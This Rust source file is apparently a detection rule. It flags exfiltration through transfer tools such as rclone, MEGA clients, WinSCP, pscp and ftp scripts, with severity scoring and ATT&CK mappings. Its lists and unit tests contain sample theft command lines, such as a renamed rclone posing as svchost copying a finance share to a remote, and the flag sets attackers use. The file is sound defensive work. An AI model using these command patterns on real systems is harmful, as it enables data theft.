//! A program that was made to move data out is used.
//!
//! **Fires** on rclone (by its name, its author's name, or the shape of its command line when renamed: a verb, a remote
//! with a colon, its flags), restic and MEGA's clients, FileZilla, WinSCP, PuTTY's pscp and psftp, Windows' ftp with a
//! script, scp and sftp to an outside host, DNS and cloud exfiltration kits. Clouds' command lines and tunnels are in [`super::cloud_tool`].
//!
//! **ATT&CK** T1567.002 (to cloud storage), T1048 (FTP, SFTP, SCP).
//!
//! **Severity** by the sum of oddities: a copy by rclone to a remote 2, by a scripted FTP or SFTP client 1, the mere start of
//! an interactive one 0 or 1; renamed 2; in an odd place, unattended flags, from a share, filtered by age or type, to a known drop 1 each. Medium
//! from 2, high from 4.
//!
//! **False alarms** a partner's SFTP by a scheduled job (the same line every day from one server: low), web developers
//! with FileZilla and WinSCP (installed under Program Files: low), administrators who use rclone for backups.

use crate::command::{Act, Launch, bare, host_of, is_local, is_share};
use crate::services::service_of;

/// Programs by name for the subscription.
pub const PROGRAMS: [&str; 25] = [
    "rclone.exe",
    "restic.exe",
    "megasync.exe",
    "megacmd.exe",
    "megacmdserver.exe",
    "mega-put.exe",
    "megaclient.exe",
    "megatools.exe",
    "filezilla.exe",
    "fzsftp.exe",
    "winscp.exe",
    "winscp.com",
    "pscp.exe",
    "psftp.exe",
    "ftp.exe",
    "scp.exe",
    "sftp.exe",
    "azcopy.exe",
    "s3browser-cli.exe",
    "dnsexfiltrator.exe",
    "ftpuse.exe",
    "tftp.exe",
    "ssh.exe",
    "croc.exe",
    "storageexplorer.exe",
];
/// Their authors' names.
pub const ORIGINALS: [&str; 12] = [
    "rclone.exe",
    "rclone",
    "megasync.exe",
    "filezilla.exe",
    "winscp.exe",
    "winscp.com",
    "pscp",
    "pscp.exe",
    "psftp",
    "psftp.exe",
    "ftp.exe",
    "restic.exe",
];

const VERBS: [&str; 14] = [
    "copy", "copyto", "sync", "move", "moveto", "bisync", "copyurl", "rcat", "mount", "lsd", "ls", "lsf", "mkdir",
    "size",
];
const MOVING: [&str; 8] = ["copy", "copyto", "sync", "move", "moveto", "bisync", "rcat", "mount"];
/// rclone's flags that a theft uses (documentation of rclone, and published command lines of Conti, LockBit and others).
const FLAGS: [&str; 28] = [
    "--transfers",
    "--checkers",
    "--multi-thread-streams",
    "--config",
    "--max-age",
    "--min-age",
    "--max-size",
    "--bwlimit",
    "--buffer-size",
    "--ignore-existing",
    "--auto-confirm",
    "--no-check-certificate",
    "--include",
    "--exclude",
    "--filter-from",
    "--progress",
    "--stats",
    "--tpslimit",
    "--low-level-retries",
    "--retries",
    "--drive-",
    "--s3-",
    "--sftp-",
    "--ftp-",
    "--mega-",
    "--create-empty-src-dirs",
    "--ignore-checksum",
    "--exclude-from",
];

/// What a launch of a transfer tool is worth telling for; none: nothing.
pub fn judge(launch: &Launch) -> Option<Act> {
    rclone(launch).or_else(|| others(launch))
}

fn rclone(launch: &Launch) -> Option<Act> {
    let named = launch.is(&["rclone"]);
    let flags = launch.words.iter().filter(|word| FLAGS.iter().any(|flag| word.starts_with(flag))).count();
    let verb = launch.words.iter().find(|word| VERBS.contains(&word.as_str()));
    let remote = launch.words.iter().find(|word| is_remote(word));
    let from = launch.words.iter().any(|word| is_share(word) || word.get(1..3) == Some(":\\") || word.starts_with('/'));
    let shaped = verb.is_some() && remote.is_some() && (flags >= 2 || flags == 1 && from);
    if !named && !shaped {
        return None;
    }
    let moving = remote.is_some() && verb.is_some_and(|verb| MOVING.contains(&verb.as_str()));
    let what = match (moving, remote) {
        (true, Some(remote)) => format!("rclone {} to {remote}", verb.map_or("moves data", String::as_str)),
        _ if launch.has("config") => "rclone is configured".to_owned(),
        _ => format!("rclone runs ({})", verb.map_or("other", String::as_str)),
    };
    let filtered = launch.words.iter().any(|word| {
        ["--max-age", "--include", "--exclude", "--max-size", "--filter-from"].iter().any(|flag| word.starts_with(flag))
    });
    let hidden = launch.words.iter().any(|word| {
        ["--ignore-existing", "--auto-confirm", "--no-check-certificate", "--no-console"]
            .iter()
            .any(|flag| word.starts_with(flag))
    });
    let many = launch.words.iter().any(|word| {
        ["--transfers", "--checkers", "--multi-thread-streams", "--buffer-size"]
            .iter()
            .any(|flag| word.starts_with(flag))
    });
    let act = Act::new(what, if moving { 2 } else { 1 })
        .odd(launch.is_renamed() || !named, 2, "under another name")
        .odd(launch.is_in_odd_place(), 1, "from an odd place")
        .odd(filtered, 1, "filtered by age, size or kind")
        .odd(hidden, 1, "told to ask and check nothing")
        .odd(many, 1, "in many streams")
        .odd(launch.words.iter().any(|word| is_share(word)), 1, "from a share");
    Some(act.target(remote.cloned().unwrap_or_default()))
}

/// `name:` or `name:path`, of more than one letter, and no URL.
fn is_remote(word: &str) -> bool {
    let Some((name, rest)) = word.split_once(':') else { return false };
    let plain =
        name.len() >= 2 && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.'));
    plain && !rest.starts_with("//") && !word.starts_with('-') || word.starts_with(':') && word[1..].contains(':')
}

fn others(launch: &Launch) -> Option<Act> {
    let own = bare(if launch.original.is_empty() { &launch.program } else { &launch.original });
    let own = if KNOWN.contains(&own) { own } else { bare(&launch.program) };
    let target = launch.words.iter().find_map(|word| host_of(word)).unwrap_or_default();
    let drop = service_of(target).is_some();
    let (what, points) = match own {
        "megasync" | "megacmd" | "megacmdserver" | "mega-put" | "megaclient" | "megatools" => {
            ("a client of MEGA runs", 2)
        }
        "restic" if launch.has("backup") => ("restic copies to a repository", 1),
        "filezilla" | "fzsftp" => ("FileZilla runs", 1),
        "winscp" if is_scripted(launch, &["/script", "/command", "/ini", "/console"]) => ("WinSCP runs a script", 1),
        "winscp" => ("WinSCP runs", 1),
        "pscp" | "scp" if is_upload(launch) => ("files are copied over SSH", 1),
        "psftp" | "sftp" if is_scripted(launch, &["-b", "-bc", "-batch"]) => ("SFTP runs a script", 1),
        "ftp" if is_scripted(launch, &["-s"]) => ("FTP runs a script", 2),
        "ftp" if is_hidden(launch) => ("FTP runs under another name", 0),
        "sftp" | "psftp" | "pscp" | "scp" if is_hidden(launch) => ("a client of SSH runs under another name", 0),
        "tftp" if launch.has("put") => ("TFTP sends a file", 2),
        "ssh" if launch.line.contains("| ") && launch.line.contains("tar ") => ("an archive is piped into SSH", 2),
        "s3browser-cli" => ("S3 Browser sends to a bucket", 1),
        "dnsexfiltrator" => ("DNSExfiltrator runs", 5),
        "croc" if launch.has("send") => ("croc sends files", 2),
        _ => return None,
    };
    if matches!(own, "pscp" | "scp" | "ssh") && is_local(target) {
        return None;
    }
    let act = Act::new(what, points)
        .odd(is_hidden(launch) && KNOWN.contains(&bare(&launch.original)), 2, "under another name")
        .odd(points == 0, -1, "and nothing tells what for")
        .odd(launch.is_in_odd_place(), 1, "from an odd place")
        .odd(launch.words.iter().any(|word| is_share(word)), 1, "from a share")
        .odd(has_password(launch), 1, "with a password on the line")
        .odd(drop, 2, "to a service that takes files from anyone");
    Some(act.target(target))
}

const KNOWN: [&str; 12] = [
    "rclone",
    "restic",
    "megasync",
    "megacmd",
    "filezilla",
    "winscp",
    "pscp",
    "psftp",
    "ftp",
    "azcopy",
    "megacmdserver",
    "scp",
];

/// Whether its author's name is no part of the name that it runs under (a portable edition has its version behind it).
fn is_hidden(launch: &Launch) -> bool {
    launch.is_renamed() && !launch.program.starts_with(bare(&launch.original))
}

fn is_scripted(launch: &Launch, options: &[&str]) -> bool {
    launch.words.iter().any(|word| {
        options
            .iter()
            .any(|option| word == option || word.strip_prefix(option).is_some_and(|rest| rest.starts_with(['=', ':'])))
    })
}

/// The last argument is the remote one: it sends.
fn is_upload(launch: &Launch) -> bool {
    launch.words.last().is_some_and(|last| host_of(last).is_some() && last.contains(':'))
}

fn has_password(launch: &Launch) -> bool {
    launch.has("-pw")
        || launch.words.iter().any(|word| {
            word.split_once("://")
                .is_some_and(|(_, rest)| rest.split_once('@').is_some_and(|(login, _)| login.contains(':')))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(path: &str, original: &str, line: &str) -> i64 {
        judge(&Launch::new(path, original, line)).map_or(-1, |act| act.points)
    }

    #[test]
    fn rclone_is_known_by_the_shape_of_its_line() {
        let line = r#"svchost.exe copy "\\fs1\Finance" remote:x --max-age 2y --ignore-existing -q --transfers 16"#;
        assert!(points(r"C:\Users\Public\svchost.exe", "", line) >= 6);
        assert!(points(r"C:\tools\rclone.exe", "rclone.exe", "rclone.exe copy D:\\x mega:y") >= 2);
        assert_eq!(points(r"C:\tools\rclone.exe", "rclone.exe", "rclone.exe version"), 1);
        assert_eq!(points(r"C:\Windows\System32\robocopy.exe", "", r"robocopy d:\x e:\y /mir"), -1);
        assert_eq!(points(r"C:\Program Files\Docker\docker.exe", "", "docker copy app:latest --config x"), -1);
    }

    #[test]
    fn clients_weigh_by_what_they_are_told() {
        assert_eq!(points(r"C:\Windows\System32\ftp.exe", "ftp.exe", r"ftp -s:c:\x\up.txt 203.0.113.9"), 2);
        assert_eq!(points(r"C:\Windows\System32\ftp.exe", "ftp.exe", "ftp"), -1);
        assert_eq!(points(r"C:\Users\a\Downloads\my-ftp.exe", "ftp.exe", "my-ftp.exe"), 1);
        assert_eq!(points(r"C:\Users\a\WinSCP-6.3-Portable.exe", "winscp.exe", "WinSCP-6.3-Portable.exe"), 1);
        assert_eq!(points(r"C:\x\pscp.exe", "", r"pscp -pw x c:\a.zip bob@203.0.113.9:/tmp"), 2);
        assert_eq!(points(r"C:\x\pscp.exe", "", r"pscp bob@203.0.113.9:/tmp/a c:\a"), -1);
        assert_eq!(points(r"C:\Program Files\WinSCP\WinSCP.exe", "winscp.exe", "WinSCP.exe"), 1);
    }
}
